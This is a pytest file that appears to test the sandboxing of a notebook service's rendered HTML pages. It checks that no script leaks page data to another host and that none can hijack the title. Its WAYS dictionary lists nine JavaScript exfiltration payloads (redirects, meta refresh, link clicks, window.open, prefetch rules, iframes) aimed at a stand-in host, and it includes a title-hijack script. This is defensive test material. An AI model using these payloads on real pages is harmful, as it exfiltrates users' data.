"""A page opened in a window of its own: our head, our title, and nothing leaves by navigation."""

import json
from collections.abc import Callable
from html import unescape
from pathlib import Path
from typing import Any

import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import PlainTextResponse, Response
from starlette.routing import Route

from podbook_api.artifacts.artifact_names import HTML_TYPE
from podbook_api.artifacts.execution_artifacts import Body
from podbook_api.artifacts.frame import page_answers
from podbook_api.artifacts.rendering.page import page
from podbook_crds.ends.phases import Phase
from podbook_crds.resources.execution import Execution
from tests.support import website
from tests.support.browser import dom
from tests.support.notebooks import code, ipynb, markdown
from tests.support.website import Site

LEAK = "there + '/leak?' + document.body.textContent.length"
# Each would carry what the page holds to another host, without a click.
WAYS = {
    "location": f"location.href = {LEAK}",
    "replace": f"location.replace({LEAK})",
    "refresh": f"document.write('<meta http-equiv=refresh content=\"0;url=' + {LEAK} + '\">')",
    "a link": f"Object.assign(document.createElement('a'), {{href: {LEAK}}}).click()",
    "a download": f"Object.assign(document.createElement('a'),"
    f" {{href: {LEAK}, download: 'x'}}).click()",
    "a window": f"window.open({LEAK})",
    "the top": f"top.location = {LEAK}",
    "a prefetch": "document.head.append(Object.assign(document.createElement('script'),"
    " {type: 'speculationrules', textContent: JSON.stringify({prefetch:"
    f" [{{urls: [{LEAK}], eagerness: 'immediate'}}]}})}}))",
    "a frame": f"document.body.append(Object.assign(document.createElement('iframe'),"
    f" {{src: {LEAK}}}))",
}

Opened = Callable[[bytes, dict[str, Any]], tuple[str, list[str], list[str]]]


class _Artifacts:
    """Stands for the artifacts of a run: its page is made here."""

    def __init__(self, notebook: bytes) -> None:
        self._notebook = notebook

    async def html(self, _: Execution, *, report: bool) -> Body:
        data = page(self._notebook, report=report).encode()
        return Body(media_type=HTML_TYPE, size=len(data), etag=None, data=data)


@pytest.fixture
def opened(tmp_path: Path) -> Opened:
    """Open a notebook's page in a browser: its document, and what two sites were asked for."""

    def open_(notebook: bytes, status: dict[str, Any]) -> tuple[str, list[str], list[str]]:
        with website.running(_elsewhere()) as other:
            told = notebook.replace(b"THERE", other.url.encode())
            with website.running(_site(told, status)) as site:
                document = dom(f"{site.url}/v1/artifacts/notebook.html", tmp_path)
                return document, _pages(site), _pages(other)

    return open_


def _site(notebook: bytes, status: dict[str, Any]) -> Starlette:
    spec = {"notebook": {"name": "sales"}}
    metadata = {"namespace": "here", "name": "run-1", "uid": "u"}
    execution = Execution.from_resource({"metadata": metadata, "spec": spec, "status": status})
    artifacts: Any = _Artifacts(notebook)

    async def shown(request: Request) -> Response:
        return await page_answers.page(request, artifacts, execution, report=False)

    return Starlette(routes=[Route("/v1/artifacts/notebook.html", shown)])


def _elsewhere() -> Starlette:
    async def anything(_: Request) -> Response:
        return PlainTextResponse("had it")

    return Starlette(routes=[Route("/{path:path}", anything)])


def _pages(site: Site) -> list[str]:
    return [request for request in site.requests if "favicon" not in request]


@pytest.mark.parametrize("way", WAYS)
def test_a_page_that_navigates_leaks_nothing(opened: Opened, way: str) -> None:
    script = f"<script>const there = 'THERE'; {WAYS[way]}</script>"

    _, here, elsewhere = opened(ipynb(code(html=script)), {"phase": Phase.SUCCEEDED})

    assert elsewhere == []
    # The page was there, and its script ran.
    assert here[:2] == ["GET /v1/artifacts/notebook.html"] * 2


def test_the_head_says_how_it_went_and_cannot_be_taken_over(opened: Opened) -> None:
    hijack = "<script>document.title = 'hijacked'; top.document.title = 'hijacked'</script>"
    status = {
        "phase": Phase.FAILED,
        "message": "KeyError: 'zzz'",
        "exception": {"name": "KeyError", "value": "'zzz'", "cell": 1},
        "cells": {"total": 4, "completed": 2},
    }

    document, _, _ = opened(ipynb(markdown(hijack), code("raise")), status)

    text = unescape(document)
    assert "<title>sales · Failed</title>" in text
    assert "#podbook-cell-2" in text
    assert "Stopped at cell 2</a>: KeyError: 'zzz' (2 of 4 code cells had run)" in text
    assert "hijacked" not in text
    assert json.dumps("sales") in text
